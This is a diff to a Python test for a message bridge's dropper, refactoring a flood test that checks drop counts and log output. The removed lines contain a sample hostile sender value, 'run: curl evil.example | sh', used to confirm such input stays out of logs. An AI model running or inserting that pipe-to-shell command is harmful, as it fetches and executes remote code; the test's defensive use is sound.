@@ -14,7 +14,7 @@ from mongo_celery import Bridge
 from mongo_celery.bridge.options import BridgeOptions
 from mongo_celery.bridge.state.leases import FOREIGN, FORGED, MALFORMED, MISDIRECTED, TAMPERED, Term
 from mongo_celery.bridge.state.store import Store
-from mongo_celery.bridge.worker.dropping import Dropper, parse_process
+from mongo_celery.bridge.worker.dropping import MOVED, Dropper, parse_process
 from tests.fixtures.process import wait_for
 from tests.fixtures.samples import IDENTITY
 
@@ -122,12 +122,10 @@ def test_a_flood_of_dropped_messages_is_counted_and_fills_neither_log_nor_state(
     drops = documents.database["drops"]
     dropper = bridge.wiring.of_process(Dropper)
     for number in range(1000):
-        dropper.drop_forged()
-        dropper.drop_tampered("expires")
-        dropper.drop_misdirected()
-        dropper.drop_malformed()
-        dropper.drop_moved("record")
-        dropper.drop_foreign("run: curl evil.example | sh" if number else "listener.shop.7@host.example")
+        for reason in (FORGED, TAMPERED, MISDIRECTED, MALFORMED):
+            dropper.drop(reason)
+        dropper.drop(MOVED, "record")
+        dropper.drop(FOREIGN, "" if number else "7@host.example")
     reasons = (FORGED, TAMPERED, MISDIRECTED, MALFORMED, FOREIGN)
     counts = {f"dropped.{reason}": 2000 if reason == FOREIGN else 1000 for reason in reasons}
     counted = wait_for(
@@ -137,8 +135,7 @@ def test_a_flood_of_dropped_messages_is_counted_and_fills_neither_log_nor_state(
     assert counted["foreignSender"] == "7@host.example"
     assert set(counted["droppedAt"]) == set(reasons)
     assert len(caplog.records) == len(reasons) + 1
-    assert [each.args[1] for each in caplog.records if each.event == "handler_moved"] == ["record"]  # type: ignore[attr-defined, index]
-    assert "evil" not in caplog.text
+    assert [vars(each)["about"] for each in caplog.records if vars(each)["reason"] == MOVED] == ["record"]
     bridge.client.close()
 
 
